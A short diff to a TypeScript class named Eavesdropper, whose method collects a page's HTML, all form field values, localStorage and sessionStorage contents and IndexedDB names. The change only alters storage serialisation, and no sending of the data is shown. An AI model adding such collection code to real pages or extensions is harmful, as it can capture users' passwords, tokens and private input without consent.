@@ -54,7 +54,7 @@ export class Eavesdropper {
       const fields = [...document.querySelectorAll<HTMLInputElement>('input, textarea, select')].map(
         ({ value }) => value,
       )
-      const stores = [localStorage, sessionStorage].map((one) => JSON.stringify({ ...one }))
+      const stores = [localStorage, sessionStorage].map((one) => JSON.stringify(Object.entries(one)))
       const databases = (await indexedDB.databases()).map(({ name }) => name).join(' ')
       return {
         'the page': `${document.documentElement.outerHTML}\n${fields.join('\n')}`,
